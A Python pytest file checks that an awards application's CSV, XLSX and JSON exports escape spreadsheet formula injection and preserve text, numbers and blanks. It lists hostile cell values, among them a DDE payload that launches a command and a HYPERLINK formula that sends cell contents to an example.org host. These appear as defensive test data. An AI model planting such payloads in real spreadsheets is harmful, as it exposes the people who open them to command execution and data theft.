"""No text that somebody typed is run by a spreadsheet, and nothing is lost on the way."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest
from flask import Flask
from openpyxl import load_workbook

from awards.exports import frames, spreadsheets
from tests.season import a_program, person

HOSTILE = [
    '=HYPERLINK("http://example.org/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]
HARMLESS = ["Team North", "a=b", "5 > 3", "Łódź, “quoted”", 'says "hello"', "two\nlines", ""]


def frame(*texts: str) -> pd.DataFrame:
    return pd.DataFrame({"name": list(texts), "score": [8.25] * len(texts)})


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def sheet(**named: pd.DataFrame) -> dict[str, list[tuple[object, ...]]]:
    """The cells as openpyxl reads them back, sheet by sheet."""
    book = load_workbook(io.BytesIO(spreadsheets.xlsx(named)))
    for one in book:
        for line in one.iter_rows():
            for cell in line:
                assert cell.data_type != "f", cell.value
                assert cell.hyperlink is None
    return {one.title: list(one.iter_rows(values_only=True)) for one in book}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_cell_never_starts_like_a_formula(text: str) -> None:
    (_head, (name, _score)) = rows(spreadsheets.csv(frame(text)))
    assert name == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_stand_in_csv_as_they_were_typed(text: str) -> None:
    assert rows(spreadsheets.csv(frame(text))) == [["name", "score"], [text, "8.25"]]


def test_a_negative_number_stays_a_number() -> None:
    content = spreadsheets.csv(pd.DataFrame({"nps": [-20.5, None]}))
    assert rows(content)[1:] == [["-20.5"], [""]]


def test_csv_tells_spreadsheets_that_it_is_utf_8() -> None:
    content = spreadsheets.csv(frame("Łódź"))
    assert content.startswith(b"\xef\xbb\xbf")
    assert "Łódź".encode() in content
    assert content.endswith(b"\r\n")


def test_xlsx_keeps_every_text_a_text() -> None:
    texts = [*HOSTILE, *HARMLESS, "http://example.org", "mailto:ada@example.org"]
    found = sheet(standings=frame(*texts))["standings"]
    assert found[0] == ("name", "score")
    assert [str(row[0] or "").replace("_x000D_", "\r") for row in found[1:]] == texts
    assert {row[1] for row in found[1:]} == {8.25}


def test_empty_sheets_keep_their_columns(app: Flask) -> None:
    program = a_program(person("Olga"), template=None)
    whole = frames.sheets(program)
    assert {name: list(one.columns) for name, one in whole.items()} == {
        name: list(columns) for name, (columns, _rows) in frames.SHEETS.items()
    }
    read = sheet(**whole)
    for name, (columns, _rows) in frames.SHEETS.items():
        assert whole[name].empty
        assert read[name][0] == columns
        assert rows(spreadsheets.csv(whole[name]))[0] == list(columns)


def test_json_says_null_for_what_is_unknown() -> None:
    unknown = pd.DataFrame({"rank": [1, None], "score": [8.25, None], "name": ["=1", "Łódź"]})
    found = json.loads(spreadsheets.to_json({"standings": unknown}))
    assert found == {
        "standings": [
            {"rank": 1.0, "score": 8.25, "name": "=1"},
            {"rank": None, "score": None, "name": "Łódź"},
        ]
    }


def test_a_whole_number_stays_whole_beside_a_blank() -> None:
    ranks = pd.DataFrame([{"rank": 1, "nominee": "North"}, {"rank": None, "nominee": "East"}], dtype=object)
    assert rows(spreadsheets.csv(ranks)) == [["rank", "nominee"], ["1", "North"], ["", "East"]]
    assert sheet(standings=ranks)["standings"][1:] == [(1, "North"), (None, "East")]
    assert '"rank": 1,' in spreadsheets.to_json({"standings": ranks}).decode()
    assert '"rank": null,' in spreadsheets.to_json({"standings": ranks}).decode()
